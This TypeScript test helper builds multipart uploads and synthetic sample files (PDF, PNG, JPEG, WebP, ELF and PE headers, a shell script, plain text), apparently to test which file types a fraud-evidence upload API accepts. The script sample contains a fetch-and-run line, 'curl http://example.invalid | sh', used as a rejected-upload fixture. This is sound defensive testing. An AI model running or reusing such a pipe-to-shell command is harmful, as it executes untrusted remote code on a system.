import { randomBytes } from 'node:crypto';
import zlib from 'node:zlib';
import type { TestApp } from './test-app.js';

export interface Part {
  name: string;
  /** A part with a file name is a file; without one, a plain field. */
  filename?: string;
  contentType?: string;
  data: Buffer | string;
}

/** A multipart/form-data body, built by hand so tests control every byte. */
export function multipart(parts: Part[]) {
  const boundary = `----redflag${randomBytes(8).toString('hex')}`;
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const disposition = `form-data; name="${part.name}"${part.filename !== undefined ? `; filename="${part.filename}"` : ''}`;
    const type = part.contentType ? `Content-Type: ${part.contentType}\r\n` : '';
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: ${disposition}\r\n${type}\r\n`));
    chunks.push(Buffer.isBuffer(part.data) ? part.data : Buffer.from(part.data));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

/** Padding after a signature, so each sample is a plausible size and unique (different hashes). */
const filler = (n = 2048) => randomBytes(n);

/** One PNG chunk: length, type, data, CRC. */
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** Entropy-coded JPEG data: random, with every 0xFF stuffed (0xFF 0x00) as an encoder does. */
const entropy = (n: number) => Buffer.from([...filler(n)].flatMap((b) => (b === 0xff ? [0xff, 0x00] : [b])));

/**
 * Files of each accepted type, structurally sound (chunks with their CRCs, segments to EOI, RIFF
 * sizes that add up) with random image data, so each is unique.
 */
export const samples = {
  // Random bytes in a stream, as a PDF's compressed content is.
  pdf: () =>
    Buffer.concat([
      Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Length 2048 >>\nstream\n', 'latin1'),
      filler(),
      Buffer.from('\nendstream\nendobj\n%%EOF\n'),
    ]),
  png: () =>
    Buffer.concat([
      Buffer.from('89504e470d0a1a0a', 'hex'),
      pngChunk('IHDR', Buffer.from('00000001000000010806000000', 'hex')),
      pngChunk('IDAT', filler()),
      pngChunk('IEND', Buffer.alloc(0)),
    ]),
  jpeg: () =>
    Buffer.concat([
      Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
      Buffer.from('ffc00011080010001003012200021101031101', 'hex'),
      Buffer.from('ffda000c03010002110311003f00', 'hex'),
      entropy(2048),
      Buffer.from('ffd9', 'hex'),
    ]),
  webp: () => {
    const image = Buffer.concat([Buffer.from([0x2f, 0, 0, 0]), filler()]);
    const chunkSize = Buffer.alloc(4);
    chunkSize.writeUInt32LE(image.length);
    const body = Buffer.concat([Buffer.from('WEBPVP8L'), chunkSize, image]);
    const size = Buffer.alloc(4);
    size.writeUInt32LE(body.length);
    return Buffer.concat([Buffer.from('RIFF'), size, body]);
  },
  elf: () => Buffer.concat([Buffer.from('7f454c46020101000000000000000000', 'hex'), filler()]),
  pe: () => Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), filler(), Buffer.from('PE\0\0')]),
  script: () => Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n'),
  text: () => Buffer.from('just some notes about the fraud, not a document format we accept\n'),
};

export async function uploadFile(
  t: TestApp,
  apiKey: string | undefined,
  data: Buffer,
  options: { filename?: string; contentType?: string; url?: string; remoteAddress?: string } = {},
) {
  const body = multipart([
    {
      name: 'file',
      filename: options.filename ?? 'evidence.bin',
      contentType: options.contentType ?? 'application/octet-stream',
      data,
    },
  ]);
  return t.app.inject({
    method: 'POST',
    url: options.url ?? '/api/v1/external/uploads',
    headers: { ...body.headers, ...(apiKey ? { 'x-api-key': apiKey } : {}) },
    payload: body.payload,
    ...(options.remoteAddress ? { remoteAddress: options.remoteAddress } : {}),
  });
}

/** Uploads a file and returns its reference URL (fails the test otherwise). */
export async function uploadedUrl(t: TestApp, apiKey: string, data: Buffer = samples.pdf()): Promise<string> {
  const res = await uploadFile(t, apiKey, data);
  if (res.statusCode !== 201) throw new Error(`upload failed ${res.statusCode}: ${res.body}`);
  return res.json().data.url;
}

/** The path and query of an absolute URL the service handed out, for app.inject. */
export const pathOf = (url: string) => {
  const parsed = new URL(url);
  return `${parsed.pathname}${parsed.search}`;
};
